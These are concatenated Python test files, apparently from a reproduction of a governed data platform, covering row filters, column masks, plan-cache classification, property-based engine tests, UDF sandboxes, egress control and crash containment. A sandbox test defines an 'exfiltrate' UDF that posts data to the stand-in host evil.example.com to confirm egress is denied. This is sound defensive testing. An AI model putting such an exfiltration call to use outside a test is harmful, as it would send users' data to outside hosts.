        assert result.leaked_rows == 0 and result.leaked_bytes == 0

    def test_exfil_endpoint_never_heard_anything(self, gauntlet):
        assert gauntlet.evil_received == []

    def test_process_worker_backend_contains_everything(self):
        harness = GauntletHarness(worker_backend="process")
        try:
            results = harness.run_all()
            leaks = {n: r.detail for n, r in results.items() if not r.contained}
            assert leaks == {}
            assert harness.stats.total_leaks() == 0
        finally:
            harness.close()

    def test_chaos_armed_gauntlet_contains_everything(self):
        harness = GauntletHarness()
        harness.arm_chaos(rate=0.02, seed=7)
        try:
            results = harness.run_all()
            leaks = {n: r.detail for n, r in results.items() if not r.contained}
            assert leaks == {}
            assert harness.stats.total_leaks() == 0
        finally:
            harness.close()


class TestAttackStatsTable:
    def test_admin_reads_per_scenario_counters(self, gauntlet):
        gauntlet.run_all()
        rows = (
            gauntlet.client_for("admin")
            .table("system.access.attack_stats")
            .collect()
        )
        by_scenario: dict[str, dict[str, float]] = {}
        for scenario, metric, value in rows:
            by_scenario.setdefault(scenario, {})[metric] = value
        for scenario in SCENARIOS:
            counters = by_scenario[scenario.name]
            assert counters["runs"] >= 1.0
            assert counters["leaks"] == 0.0
            assert counters["leaked_rows"] == 0.0

    def test_non_admin_is_denied(self, gauntlet):
        with pytest.raises(PermissionDenied):
            gauntlet.client_for("alice").table(
                "system.access.attack_stats"
            ).collect()


class TestPlanCacheClassification:
    """The structural-classification bugfix: cache bypass must use the same
    resolver as admission lanes, so ``system.``-looking strings in literals
    no longer disable caching and unresolvable shapes stay conservative."""

    def test_unit_structural_classification(self):
        literal_bait = proto.filter_relation(
            proto.read_table("m.s.t"),
            proto.binary(
                "=", proto.column("c"), proto.literal("system.access.audit")
            ),
        )
        assert not proto.plan_targets_system_tables(literal_bait)
        assert proto.plan_targets_system_tables(
            proto.read_table("system.access.audit")
        )
        # Unresolvable shapes (raw expr.sql) fall back to the conservative
        # substring scan: a "system." fragment keeps the plan uncacheable.
        unresolvable = proto.filter_relation(
            proto.read_table("m.s.t"),
            proto.sql_expr("c = 'system.access.audit'"),
        )
        assert proto.plan_targets_system_tables(unresolvable)

    def test_system_literal_queries_are_cacheable(self, gauntlet):
        cache = gauntlet.cluster.backend.plan_cache
        relation = proto.filter_relation(
            proto.read_table(ORDERS),
            proto.binary(
                "=",
                proto.column("region"),
                proto.literal("system.access.cache_stats"),
            ),
        )
        before = cache.stats_snapshot()["insertions"]
        gauntlet.collect("alice", relation)
        assert cache.stats_snapshot()["insertions"] == before + 1

    def test_system_table_reads_still_bypass_the_cache(self, gauntlet):
        cache = gauntlet.cluster.backend.plan_cache
        before = cache.stats_snapshot()["insertions"]
        gauntlet.client_for("admin").table("system.access.audit").collect()
        assert cache.stats_snapshot()["insertions"] == before


class TestCorpusReplay:
    """Committed counterexamples replay as deterministic regressions."""

    CORPUS = load_corpus(CORPUS_DIR)

    def test_corpus_is_committed_and_nonempty(self):
        assert len(self.CORPUS) >= 8

    @pytest.mark.parametrize(
        "record", CORPUS, ids=[r["source"] for r in CORPUS]
    )
    def test_corpus_case_stays_contained(self, gauntlet, record):
        outcome = LeakOracle(gauntlet, record["user"]).judge(record["plan"])
        assert outcome.ok, f"{record['source']}: {outcome.note} ({record['note']})"


class TestFuzzer:
    @pytest.mark.parametrize("user", ["alice", "mallory"])
    def test_bounded_fuzz_finds_no_leaks(self, gauntlet, user):
        failures = run_fuzz(gauntlet, user, max_examples=30)
        assert failures == []
