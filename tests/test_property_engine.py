"""Property-based tests (hypothesis) for engine invariants."""

from hypothesis import given, settings, strategies as st

from repro.engine.analyzer import DictResolver
from repro.engine.executor import QueryEngine
from repro.engine.expressions import (
    Alias,
    Arithmetic,
    BooleanOp,
    Comparison,
    col,
    lit,
)
from repro.engine.logical import (
    Aggregate,
    Distinct,
    Filter,
    Limit,
    LocalRelation,
    Project,
    Sort,
    UnresolvedRelation,
)
from repro.engine.aggregates import AggregateCall
from repro.engine.expressions import SortOrder
from repro.engine.optimizer import OptimizerConfig
from repro.engine.types import FLOAT, INT, STRING, Field, Schema

SCHEMA = Schema((Field("k", STRING), Field("x", INT), Field("y", FLOAT)))

rows_strategy = st.lists(
    st.tuples(
        st.sampled_from(["a", "b", "c", None]),
        st.one_of(st.integers(-100, 100), st.none()),
        st.one_of(
            st.floats(-1e6, 1e6, allow_nan=False, allow_infinity=False), st.none()
        ),
    ),
    max_size=60,
)


def make_engine(rows, **engine_kwargs):
    columns = [list(c) for c in zip(*rows)] if rows else [[], [], []]
    data = LocalRelation(SCHEMA, columns)
    return QueryEngine(DictResolver({"t": data}), **engine_kwargs)


def rel():
    return UnresolvedRelation("t")


class TestFilterSemantics:
    @given(rows=rows_strategy, threshold=st.integers(-100, 100))
    @settings(max_examples=60, deadline=None)
    def test_filter_matches_python_semantics(self, rows, threshold):
        engine = make_engine(rows)
        result = engine.execute(
            Filter(rel(), Comparison(">", col("x"), lit(threshold)))
        )
        expected = [r for r in rows if r[1] is not None and r[1] > threshold]
        assert sorted(result.rows(), key=repr) == sorted(expected, key=repr)

    @given(rows=rows_strategy)
    @settings(max_examples=40, deadline=None)
    def test_filter_never_invents_rows(self, rows):
        engine = make_engine(rows)
        result = engine.execute(Filter(rel(), Comparison("=", col("k"), lit("a"))))
        source = sorted(rows, key=repr)
        for row in result.rows():
            assert row in rows


class TestOptimizerEquivalence:
    @given(rows=rows_strategy, threshold=st.integers(-50, 50))
    @settings(max_examples=40, deadline=None)
    def test_optimized_equals_unoptimized(self, rows, threshold):
        plan = Project(
            Filter(
                rel(),
                BooleanOp(
                    "AND",
                    Comparison(">", col("x"), lit(threshold)),
                    Comparison("!=", col("k"), lit("c")),
                ),
            ),
            [col("k"), Alias(Arithmetic("+", col("x"), lit(1)), "x1")],
        )
        full = make_engine(rows)
        bare = make_engine(
            rows,
            optimizer_config=OptimizerConfig(
                constant_folding=False,
                filter_pushdown=False,
                column_pruning=False,
                collapse_projects=False,
                udf_fusion=False,
            ),
        )
        assert sorted(full.execute(plan).rows(), key=repr) == sorted(
            bare.execute(plan).rows(), key=repr
        )


class TestAggregateProperties:
    @given(rows=rows_strategy)
    @settings(max_examples=60, deadline=None)
    def test_group_counts_sum_to_row_count(self, rows):
        engine = make_engine(rows)
        result = engine.execute(
            Aggregate(
                rel(),
                [col("k")],
                [col("k"), Alias(AggregateCall("count", None), "n")],
            )
        )
        assert sum(r[1] for r in result.rows()) == len(rows)

    @given(rows=rows_strategy)
    @settings(max_examples=60, deadline=None)
    def test_sum_matches_python(self, rows):
        engine = make_engine(rows)
        result = engine.execute(
            Aggregate(rel(), [], [Alias(AggregateCall("sum", col("x")), "s")])
        )
        values = [r[1] for r in rows if r[1] is not None]
        expected = sum(values) if values else None
        assert result.rows() == [(expected,)]

    @given(rows=rows_strategy)
    @settings(max_examples=40, deadline=None)
    def test_min_le_max(self, rows):
        engine = make_engine(rows)
        result = engine.execute(
            Aggregate(
                rel(),
                [],
                [
                    Alias(AggregateCall("min", col("x")), "lo"),
                    Alias(AggregateCall("max", col("x")), "hi"),
                ],
            )
        )
        lo, hi = result.rows()[0]
        assert (lo is None) == (hi is None)
        if lo is not None:
            assert lo <= hi


class TestPartialFinalEquivalence:
    """Partial+final aggregation (the eFGAC split) equals complete mode."""

    @given(rows=rows_strategy)
    @settings(max_examples=50, deadline=None)
    def test_split_aggregation_matches_complete(self, rows):
        engine = make_engine(rows)
        outputs = [
            col("k"),
            Alias(AggregateCall("sum", col("x")), "s"),
            Alias(AggregateCall("count", None), "n"),
            Alias(AggregateCall("avg", col("y")), "m"),
        ]
        complete = engine.execute(Aggregate(rel(), [col("k")], outputs))

        # The split pipeline: partial over the data, final over the states.
        analyzed = engine.analyze(Aggregate(rel(), [col("k")], outputs))
        partial = Aggregate(
            analyzed.child, analyzed.groupings, analyzed.aggregates, mode="partial"
        )
        from repro.engine.expressions import BoundRef

        final_groupings = [
            BoundRef(i, g.output_name(), g.dtype)
            for i, g in enumerate(analyzed.groupings)
        ]
        final = Aggregate(partial, final_groupings, analyzed.aggregates, mode="final")
        split = engine.execute_optimized(final)
        assert sorted(complete.rows(), key=repr) == sorted(split.rows(), key=repr)


class TestSortLimitDistinct:
    @given(rows=rows_strategy, n=st.integers(0, 10))
    @settings(max_examples=40, deadline=None)
    def test_limit_bounds_output(self, rows, n):
        engine = make_engine(rows)
        result = engine.execute(Limit(rel(), n))
        assert result.batch.num_rows == min(n, len(rows))

    @given(rows=rows_strategy)
    @settings(max_examples=40, deadline=None)
    def test_sort_is_permutation(self, rows):
        engine = make_engine(rows)
        result = engine.execute(
            Sort(rel(), [SortOrder(col("x"), ascending=True, nulls_first=True)])
        )
        assert sorted(result.rows(), key=repr) == sorted(rows, key=repr)

    @given(rows=rows_strategy)
    @settings(max_examples=40, deadline=None)
    def test_sort_orders_non_nulls(self, rows):
        engine = make_engine(rows)
        result = engine.execute(
            Sort(rel(), [SortOrder(col("x"), ascending=True, nulls_first=True)])
        )
        xs = [r[1] for r in result.rows() if r[1] is not None]
        assert xs == sorted(xs)

    @given(rows=rows_strategy)
    @settings(max_examples=40, deadline=None)
    def test_distinct_idempotent(self, rows):
        engine = make_engine(rows)
        once = engine.execute(Distinct(rel())).rows()
        twice_engine = make_engine(once)
        twice = twice_engine.execute(Distinct(rel())).rows()
        assert sorted(once, key=repr) == sorted(twice, key=repr)
        assert len(set(once)) == len(once)
