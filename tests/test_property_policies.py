"""Property-based tests for governance: filters and masks never leak.

These run the whole stack (catalog → Lakeguard → engine) on randomized data
and randomized policy predicates, asserting the visibility set is always
exactly what the policy defines — for every surface and every user.
"""

from hypothesis import given, settings, strategies as st

from repro.platform import Workspace

REGIONS = ["US", "EU", "APAC", None]


def build_platform(rows):
    ws = Workspace()
    ws.add_user("admin", admin=True)
    ws.add_user("alice")
    ws.add_group("analysts", ["alice"])
    cat = ws.catalog
    cat.create_catalog("m", owner="admin")
    cat.create_schema("m.s", owner="admin")
    cluster = ws.create_standard_cluster()
    admin = cluster.connect("admin")
    admin.sql("CREATE TABLE m.s.t (id int, region string, amount float)")
    if rows:
        ctx = cat.principals.context_for("admin")
        cat.write_table(
            "m.s.t",
            {
                "id": [r[0] for r in rows],
                "region": [r[1] for r in rows],
                "amount": [r[2] for r in rows],
            },
            ctx,
        )
    admin.sql("GRANT USE CATALOG ON m TO analysts")
    admin.sql("GRANT USE SCHEMA ON m.s TO analysts")
    admin.sql("GRANT SELECT ON m.s.t TO analysts")
    return ws, cluster, admin


rows_strategy = st.lists(
    st.tuples(
        st.integers(0, 1000),
        st.sampled_from(REGIONS),
        st.one_of(st.floats(0, 1000, allow_nan=False), st.none()),
    ),
    max_size=25,
)


class TestRowFilterNeverLeaks:
    @given(rows=rows_strategy, allowed=st.sampled_from(["US", "EU", "APAC"]))
    @settings(max_examples=20, deadline=None)
    def test_visible_set_is_exactly_the_policy(self, rows, allowed):
        ws, cluster, admin = build_platform(rows)
        admin.sql(f"ALTER TABLE m.s.t SET ROW FILTER (region = '{allowed}')")
        alice = cluster.connect("alice")
        visible = alice.sql("SELECT id, region FROM m.s.t").collect()
        expected = sorted(
            (r[0], r[1]) for r in rows if r[1] == allowed
        )
        assert sorted(visible) == expected

    @given(rows=rows_strategy, threshold=st.floats(0, 1000, allow_nan=False))
    @settings(max_examples=20, deadline=None)
    def test_numeric_filter(self, rows, threshold):
        ws, cluster, admin = build_platform(rows)
        admin.sql(f"ALTER TABLE m.s.t SET ROW FILTER (amount > {threshold})")
        alice = cluster.connect("alice")
        count = alice.sql("SELECT count(*) AS n FROM m.s.t").collect()[0][0]
        expected = sum(1 for r in rows if r[2] is not None and r[2] > threshold)
        assert count == expected


class TestColumnMaskNeverLeaks:
    @given(rows=rows_strategy)
    @settings(max_examples=15, deadline=None)
    def test_masked_column_constant_for_ungranted_users(self, rows):
        ws, cluster, admin = build_platform(rows)
        admin.sql(
            "ALTER TABLE m.s.t ALTER COLUMN region SET MASK "
            "(CASE WHEN is_account_group_member('hr') THEN region ELSE 'X' END)"
        )
        alice = cluster.connect("alice")
        values = {r[0] for r in alice.sql("SELECT region FROM m.s.t").collect()}
        assert values <= {"X"}

    @given(rows=rows_strategy)
    @settings(max_examples=15, deadline=None)
    def test_mask_preserves_row_count(self, rows):
        ws, cluster, admin = build_platform(rows)
        admin.sql("ALTER TABLE m.s.t ALTER COLUMN region SET MASK ('X')")
        alice = cluster.connect("alice")
        count = alice.sql("SELECT count(*) AS n FROM m.s.t").collect()[0][0]
        assert count == len(rows)


class TestEfgacEquivalenceProperty:
    @given(rows=rows_strategy, allowed=st.sampled_from(["US", "EU"]))
    @settings(max_examples=10, deadline=None)
    def test_dedicated_equals_standard(self, rows, allowed):
        ws, cluster, admin = build_platform(rows)
        admin.sql(f"ALTER TABLE m.s.t SET ROW FILTER (region = '{allowed}')")
        ded = ws.create_dedicated_cluster(assigned_user="alice", name="d")
        query = "SELECT region, count(*) AS n, sum(amount) AS s FROM m.s.t GROUP BY region"
        std_rows = sorted(cluster.connect("alice").sql(query).collect(), key=repr)
        ded_rows = sorted(ded.connect("alice").sql(query).collect(), key=repr)
        assert std_rows == ded_rows
