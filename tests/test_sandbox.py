"""Tests for sandboxes, the dispatcher, trust domains, and egress control."""

import pytest

from repro.common.clock import VirtualClock
from repro.engine.udf import udf
from repro.errors import (
    EgressDenied,
    HostFilesystemDenied,
    SandboxError,
    SandboxPolicyViolation,
    TrustDomainViolation,
    UserCodeError,
)
from repro.sandbox import (
    ClusterManager,
    Dispatcher,
    InProcessSandbox,
    SandboxedUDFRuntime,
    SandboxPolicy,
    SubprocessSandbox,
)
from repro.sandbox import net
from repro.sandbox.cluster_manager import (
    DEFAULT_INTERPRETER_START_SECONDS,
    DEFAULT_PROVISION_SECONDS,
)


@udf("int")
def add(a, b):
    return a + b


ALICE_ADD = add.with_owner("alice")
BOB_ADD = add.with_owner("bob")


class TestInProcessSandbox:
    def test_invoke(self):
        sandbox = InProcessSandbox("alice")
        assert sandbox.invoke(ALICE_ADD, [[1, 2], [10, 20]]) == [11, 22]

    def test_serialization_boundary_is_real(self):
        """Mutations inside the sandbox never reach the caller's objects."""

        @udf("int")
        def mutate(xs):
            xs.append(999)
            return len(xs)

        payload = [[1, 2]]
        arg_column = [payload[0]]
        sandbox = InProcessSandbox("alice")
        sandbox.invoke(mutate.with_owner("alice"), [arg_column])
        assert payload[0] == [1, 2], "caller data must be isolated by copy"

    def test_trust_domain_enforced(self):
        sandbox = InProcessSandbox("alice")
        with pytest.raises(TrustDomainViolation):
            sandbox.invoke(BOB_ADD, [[1], [2]])

    def test_fused_invocation_single_roundtrip(self):
        sandbox = InProcessSandbox("alice")
        results = sandbox.invoke_many(
            [(1, ALICE_ADD, [[1], [2]]), (2, ALICE_ADD, [[5], [5]])]
        )
        assert results == {1: [3], 2: [10]}
        assert sandbox.stats.invocations == 1
        assert sandbox.stats.fused_invocations == 1

    def test_closed_sandbox_rejects(self):
        sandbox = InProcessSandbox("alice")
        sandbox.close()
        with pytest.raises(SandboxError):
            sandbox.invoke(ALICE_ADD, [[1], [2]])

    def test_user_error_wrapped(self):
        @udf("int")
        def boom(x):
            raise ValueError("bad input")

        sandbox = InProcessSandbox("alice")
        with pytest.raises(UserCodeError, match="bad input"):
            sandbox.invoke(boom.with_owner("alice"), [[1]])

    def test_bytes_accounted(self):
        sandbox = InProcessSandbox("alice")
        sandbox.invoke(ALICE_ADD, [[1] * 100, [2] * 100])
        assert sandbox.stats.bytes_in > 0
        assert sandbox.stats.bytes_out > 0
        assert sandbox.stats.rows_in == 100


class TestEgressControl:
    def setup_method(self):
        net.register_service("api.example.com", lambda path, payload: {"ok": path})

    def teardown_method(self):
        net.unregister_service("api.example.com")

    def _fetch_udf(self):
        @udf("string")
        def fetch(x):
            return net.http_get(f"http://api.example.com/item/{x}")["ok"]

        return fetch.with_owner("alice")

    def test_locked_down_denies(self):
        sandbox = InProcessSandbox("alice", SandboxPolicy())
        with pytest.raises(EgressDenied):
            sandbox.invoke(self._fetch_udf(), [[1]])

    def test_allowlisted_host_allowed(self):
        policy = SandboxPolicy().with_egress("api.example.com")
        sandbox = InProcessSandbox("alice", policy)
        assert sandbox.invoke(self._fetch_udf(), [[1]]) == ["/item/1"]

    def test_other_host_still_denied(self):
        net.register_service("evil.example.com", lambda p, b: "secrets")

        @udf("string")
        def exfiltrate(x):
            return net.http_post("http://evil.example.com/drop", payload=x)

        policy = SandboxPolicy().with_egress("api.example.com")
        sandbox = InProcessSandbox("alice", policy)
        try:
            with pytest.raises(EgressDenied):
                sandbox.invoke(exfiltrate.with_owner("alice"), [["data"]])
        finally:
            net.unregister_service("evil.example.com")

    def test_trusted_code_outside_sandbox_unrestricted(self):
        # Driver-side engine code is not subject to UDF egress rules.
        assert net.http_get("http://api.example.com/x") == {"ok": "/x"}


class TestSubprocessSandbox:
    def test_invoke_real_process(self):
        sandbox = SubprocessSandbox("alice")
        try:
            assert sandbox.invoke(ALICE_ADD, [[1, 2, 3], [4, 5, 6]]) == [5, 7, 9]
        finally:
            sandbox.close()

    def test_ping(self):
        sandbox = SubprocessSandbox("alice")
        try:
            assert sandbox.ping()
        finally:
            sandbox.close()

    def test_fused(self):
        sandbox = SubprocessSandbox("alice")
        try:
            results = sandbox.invoke_many(
                [(7, ALICE_ADD, [[1], [1]]), (8, ALICE_ADD, [[2], [2]])]
            )
            assert results == {7: [2], 8: [4]}
        finally:
            sandbox.close()

    def test_user_error_comes_back(self):
        @udf("int")
        def kaboom(x):
            raise RuntimeError("inside the box")

        sandbox = SubprocessSandbox("alice")
        try:
            with pytest.raises(UserCodeError, match="inside the box"):
                sandbox.invoke(kaboom.with_owner("alice"), [[1]])
            # The worker survives user errors.
            assert sandbox.invoke(ALICE_ADD, [[1], [1]]) == [2]
        finally:
            sandbox.close()

    def test_trust_domain_checked_before_shipping(self):
        sandbox = SubprocessSandbox("alice")
        try:
            with pytest.raises(TrustDomainViolation):
                sandbox.invoke(BOB_ADD, [[1], [1]])
        finally:
            sandbox.close()

    def test_close_is_idempotent(self):
        sandbox = SubprocessSandbox("alice")
        sandbox.close()
        sandbox.close()
        assert sandbox.closed


class TestClusterManager:
    def test_provisioning_latency_charged(self):
        clock = VirtualClock()
        manager = ClusterManager(
            clock=clock,
            provision_seconds=DEFAULT_PROVISION_SECONDS,
            interpreter_start_seconds=DEFAULT_INTERPRETER_START_SECONDS,
        )
        manager.create_sandbox("alice")
        assert clock.now() == pytest.approx(2.0)

    def test_fleet_stats(self):
        manager = ClusterManager()
        s1 = manager.create_sandbox("alice")
        s2 = manager.create_sandbox("bob")
        assert manager.stats.active == 2
        assert manager.stats.peak_active == 2
        manager.destroy_sandbox(s1)
        assert manager.stats.active == 1
        manager.shutdown()
        assert manager.stats.active == 0
        assert s2.closed

    def test_unknown_backend(self):
        with pytest.raises(SandboxError):
            ClusterManager(backend="kvm")

    def test_default_policy_applied(self):
        manager = ClusterManager(
            default_policy=SandboxPolicy().with_egress("a.example")
        )
        sandbox = manager.create_sandbox("alice")
        assert "a.example" in sandbox.policy.egress_allowlist


class TestDispatcher:
    def test_cold_then_warm(self):
        manager = ClusterManager()
        dispatcher = Dispatcher(manager)
        first = dispatcher.acquire("sess-1", "alice")
        second = dispatcher.acquire("sess-1", "alice")
        assert first is second
        assert dispatcher.stats.cold_starts == 1
        assert dispatcher.stats.warm_acquisitions == 1

    def test_domains_get_separate_sandboxes(self):
        dispatcher = Dispatcher(ClusterManager())
        a = dispatcher.acquire("sess-1", "alice")
        b = dispatcher.acquire("sess-1", "bob")
        assert a is not b

    def test_sessions_get_separate_sandboxes(self):
        """No residual state across users sharing a cluster (§2.5)."""
        dispatcher = Dispatcher(ClusterManager())
        a = dispatcher.acquire("sess-alice", "alice")
        b = dispatcher.acquire("sess-bob", "alice")
        assert a is not b

    def test_release_session(self):
        dispatcher = Dispatcher(ClusterManager())
        dispatcher.acquire("sess-1", "alice")
        dispatcher.acquire("sess-1", "bob")
        dispatcher.acquire("sess-2", "alice")
        assert dispatcher.release_session("sess-1") == 2
        assert dispatcher.pool_size() == 1

    def test_cold_start_seconds_tracked(self):
        clock = VirtualClock()
        manager = ClusterManager(clock=clock, provision_seconds=2.0)
        dispatcher = Dispatcher(manager, clock=clock)
        dispatcher.acquire("s", "alice")
        assert dispatcher.stats.cold_start_seconds_max == pytest.approx(2.0)

    def test_closed_sandbox_replaced(self):
        dispatcher = Dispatcher(ClusterManager())
        first = dispatcher.acquire("s", "alice")
        first.close()
        second = dispatcher.acquire("s", "alice")
        assert second is not first
        assert dispatcher.stats.cold_starts == 2


class TestSandboxedRuntime:
    def test_run_udf_counts_roundtrips(self):
        runtime = SandboxedUDFRuntime(Dispatcher(ClusterManager()), "sess")
        assert runtime.run_udf(ALICE_ADD, [[1], [2]]) == [3]
        assert runtime.round_trips == 1

    def test_fused_multi_domain_splits(self):
        runtime = SandboxedUDFRuntime(Dispatcher(ClusterManager()), "sess")
        results = runtime.run_fused(
            [
                (1, ALICE_ADD, [[1], [1]]),
                (2, BOB_ADD, [[2], [2]]),
                (3, ALICE_ADD, [[3], [3]]),
            ]
        )
        assert results == {1: [2], 2: [4], 3: [6]}
        # Two trust domains → exactly two sandbox round-trips.
        assert runtime.round_trips == 2


class TestDispatcherEnvironments:
    def test_environments_partition_the_pool(self):
        dispatcher = Dispatcher(ClusterManager())
        a = dispatcher.acquire("s", "alice", environment="1.0")
        b = dispatcher.acquire("s", "alice", environment="2.0")
        c = dispatcher.acquire("s", "alice", environment="1.0")
        assert a is not b
        assert a is c

    def test_sandboxes_of_lists_all_session_sandboxes(self):
        dispatcher = Dispatcher(ClusterManager())
        dispatcher.acquire("s1", "alice", environment="1.0")
        dispatcher.acquire("s1", "bob")
        dispatcher.acquire("s2", "alice")
        assert len(dispatcher.sandboxes_of("s1")) == 2
        assert len(dispatcher.sandboxes_of("s2")) == 1

    def test_environment_recorded_on_sandbox(self):
        manager = ClusterManager()
        sandbox = manager.create_sandbox("alice", environment="3.0")
        assert sandbox.environment == "3.0"


class TestSpecializedPools:
    """§3.3: resource-demanding code routes to external environments."""

    def _gpu_udf(self):
        @udf("float", resources={"gpu"})
        def train(x):
            return x * 0.5

        return train.with_owner("alice")

    def test_gpu_udf_routes_to_gpu_pool(self):
        local = ClusterManager()
        gpu_pool = ClusterManager()
        local.register_specialized_pool("gpu", gpu_pool)
        dispatcher = Dispatcher(local)
        runtime = SandboxedUDFRuntime(dispatcher, "s")
        assert runtime.run_udf(self._gpu_udf(), [[2.0]]) == [1.0]
        assert gpu_pool.stats.created == 1
        assert local.stats.created == 0

    def test_plain_udf_stays_local(self):
        local = ClusterManager()
        gpu_pool = ClusterManager()
        local.register_specialized_pool("gpu", gpu_pool)
        dispatcher = Dispatcher(local)
        runtime = SandboxedUDFRuntime(dispatcher, "s")
        runtime.run_udf(ALICE_ADD, [[1], [2]])
        assert local.stats.created == 1
        assert gpu_pool.stats.created == 0

    def test_missing_pool_fails_loudly(self):
        dispatcher = Dispatcher(ClusterManager())
        runtime = SandboxedUDFRuntime(dispatcher, "s")
        with pytest.raises(SandboxError, match="no specialized execution"):
            runtime.run_udf(self._gpu_udf(), [[1.0]])

    def test_release_session_covers_specialized_sandboxes(self):
        local = ClusterManager()
        gpu_pool = ClusterManager()
        local.register_specialized_pool("gpu", gpu_pool)
        dispatcher = Dispatcher(local)
        runtime = SandboxedUDFRuntime(dispatcher, "s")
        runtime.run_udf(ALICE_ADD, [[1], [2]])
        runtime.run_udf(self._gpu_udf(), [[1.0]])
        assert dispatcher.release_session("s") == 2
        assert local.stats.active == 0
        assert gpu_pool.stats.active == 0

    def test_fused_group_splits_on_requirements(self):
        local = ClusterManager()
        gpu_pool = ClusterManager()
        local.register_specialized_pool("gpu", gpu_pool)
        runtime = SandboxedUDFRuntime(Dispatcher(local), "s")
        results = runtime.run_fused(
            [
                (1, ALICE_ADD, [[1], [2]]),
                (2, self._gpu_udf(), [[4.0]]),
            ]
        )
        assert results == {1: [3], 2: [2.0]}
        assert runtime.round_trips == 2  # one local, one specialized


class TestAmbientPolicyHardening:
    """PR-9 hardening: the ambient-policy stack is narrowing-only, and host
    filesystem reads go through the brokered, policy-gated ``net.fs_read``."""

    def test_nested_narrowing_is_allowed(self):
        wide = SandboxPolicy().with_egress("api.example.com", "cdn.example.com")
        narrow = SandboxPolicy().with_egress("api.example.com")
        with net.ambient_policy(wide):
            with net.ambient_policy(narrow):
                assert net.current_policy() is narrow
            assert net.current_policy() is wide

    def test_nested_escalation_raises(self):
        from repro.sandbox.policy import UNISOLATED

        with net.ambient_policy(SandboxPolicy()):
            with pytest.raises(SandboxPolicyViolation, match="escalate"):
                with net.ambient_policy(UNISOLATED):
                    pass  # pragma: no cover - must not be reached

    def test_widening_the_allowlist_is_escalation(self):
        narrow = SandboxPolicy().with_egress("api.example.com")
        wider = SandboxPolicy().with_egress("api.example.com", "evil.example.com")
        with net.ambient_policy(narrow):
            with pytest.raises(SandboxPolicyViolation, match="egress_allowlist"):
                with net.ambient_policy(wider):
                    pass  # pragma: no cover - must not be reached

    def test_fs_read_denied_under_locked_down(self, tmp_path):
        secret = tmp_path / "secret.txt"
        secret.write_text("host-only")
        with net.ambient_policy(SandboxPolicy()):
            with pytest.raises(HostFilesystemDenied):
                net.fs_read(str(secret))

    def test_fs_read_allowed_when_policy_grants_it(self, tmp_path):
        secret = tmp_path / "secret.txt"
        secret.write_text("host-only")
        policy = SandboxPolicy(allow_host_filesystem=True)
        with net.ambient_policy(policy):
            assert net.fs_read(str(secret)) == b"host-only"
        # Trusted driver-side code (no ambient policy) is unrestricted.
        assert net.fs_read(str(secret)) == b"host-only"
