"""Failure injection: crashed sandboxes, dying workers, broken payloads.

Resilience behaviours the architecture promises:
- a sandbox crash is contained — the engine survives, the user gets a
  typed error, the next query gets a fresh sandbox (client/server
  decoupling, §3.2);
- transient storage faults and credential expiry mid-query are absorbed by
  the scan-task recovery layer (bounded retries + re-vend);
- transport faults during command execution recover via reattach;
- malformed or hostile wire input yields protocol errors, never crashes.

Sandbox deaths are manufactured through the chaos engine
(:class:`repro.common.faults.FaultInjector`): a triggered ``sandbox.invoke``
fault kills the worker process (or marks the in-process sandbox dead)
*before* the request is delivered — the same observable as a SIGKILL from
the outside, but seeded and replayable.
"""

import os

import pytest

from repro.common.faults import FaultInjector, FaultSpec
from repro.connect import proto
from repro.connect.client import col, udf
from repro.engine.udf import udf as engine_udf
from repro.errors import (
    LakeguardError,
    ProtocolError,
    SandboxDied,
    SandboxError,
    TransientCredentialError,
    UserCodeError,
)
from repro.sandbox import ClusterManager, Dispatcher, SandboxedUDFRuntime
from repro.sandbox.subprocess_sandbox import SubprocessSandbox


@engine_udf("int")
def plus(a, b):
    return a + b


ALICE_PLUS = plus.with_owner("alice")


def one_shot_death() -> FaultInjector:
    """An injector whose next ``sandbox.invoke`` kills the worker."""
    faults = FaultInjector()
    faults.arm("sandbox.invoke", FaultSpec(one_shot=True))
    return faults


class TestSandboxCrash:
    def test_killed_worker_raises_sandbox_error(self):
        sandbox = SubprocessSandbox("alice")
        sandbox.invoke(ALICE_PLUS, [[1], [2]])
        sandbox.faults = one_shot_death()
        with pytest.raises(SandboxError, match="died|closed"):
            sandbox.invoke(ALICE_PLUS, [[1], [2]])
        # The injected death is physical: the worker process is gone.
        assert sandbox.closed

    def test_injected_death_is_pre_delivery(self):
        """An invoke-point death never delivered the request (safe retry)."""
        sandbox = SubprocessSandbox("alice")
        sandbox.invoke(ALICE_PLUS, [[1], [2]])
        sandbox.faults = one_shot_death()
        with pytest.raises(SandboxDied) as excinfo:
            sandbox.invoke(ALICE_PLUS, [[1], [2]])
        assert excinfo.value.delivered is False

    def test_dispatcher_replaces_crashed_sandbox(self):
        faults = FaultInjector()
        manager = ClusterManager(backend="subprocess", faults=faults)
        dispatcher = Dispatcher(manager)
        first = dispatcher.acquire("s", "alice")
        first.invoke(ALICE_PLUS, [[1], [2]])
        faults.arm("sandbox.invoke", FaultSpec(one_shot=True))
        with pytest.raises(SandboxError):
            first.invoke(ALICE_PLUS, [[1], [2]])
        second = dispatcher.acquire("s", "alice")
        assert second is not first
        assert second.invoke(ALICE_PLUS, [[2], [3]]) == [5]
        manager.shutdown()

    def test_oom_style_crash_inside_udf_is_contained(self):
        """A UDF that kills its own process must not take the engine down."""

        @engine_udf("int")
        def suicide(x):
            os._exit(17)

        sandbox = SubprocessSandbox("alice")
        try:
            with pytest.raises(SandboxError):
                sandbox.invoke(suicide.with_owner("alice"), [[1]])
        finally:
            sandbox.close()

    def test_runtime_surfaces_crash_as_error_not_hang(self):
        manager = ClusterManager(backend="subprocess")
        dispatcher = Dispatcher(manager)
        runtime = SandboxedUDFRuntime(dispatcher, "s")

        @engine_udf("int")
        def die(x):
            os._exit(3)

        with pytest.raises(SandboxError):
            runtime.run_udf(die.with_owner("alice"), [[1]])
        manager.shutdown()


class TestUserCodeFaults:
    def test_exception_in_udf_is_typed(self, workspace, standard_cluster, admin_client):
        @udf("float")
        def broken(x):
            return 1 / 0

        alice = standard_cluster.connect("alice")
        with pytest.raises(UserCodeError, match="ZeroDivisionError"):
            alice.table("main.sales.orders").select(broken(col("amount"))).collect()

    def test_cluster_survives_udf_failure(self, workspace, standard_cluster, admin_client):
        @udf("float")
        def broken(x):
            raise RuntimeError("boom")

        alice = standard_cluster.connect("alice")
        with pytest.raises(UserCodeError):
            alice.table("main.sales.orders").select(broken(col("amount"))).collect()
        # Subsequent, healthy queries on the same session still work.
        assert len(alice.table("main.sales.orders").collect()) == 4

    def test_wrong_cardinality_udf_rejected(self):
        """A hostile UDF runtime returning wrong-length columns is caught."""
        from repro.engine.analyzer import DictResolver
        from repro.engine.executor import QueryEngine
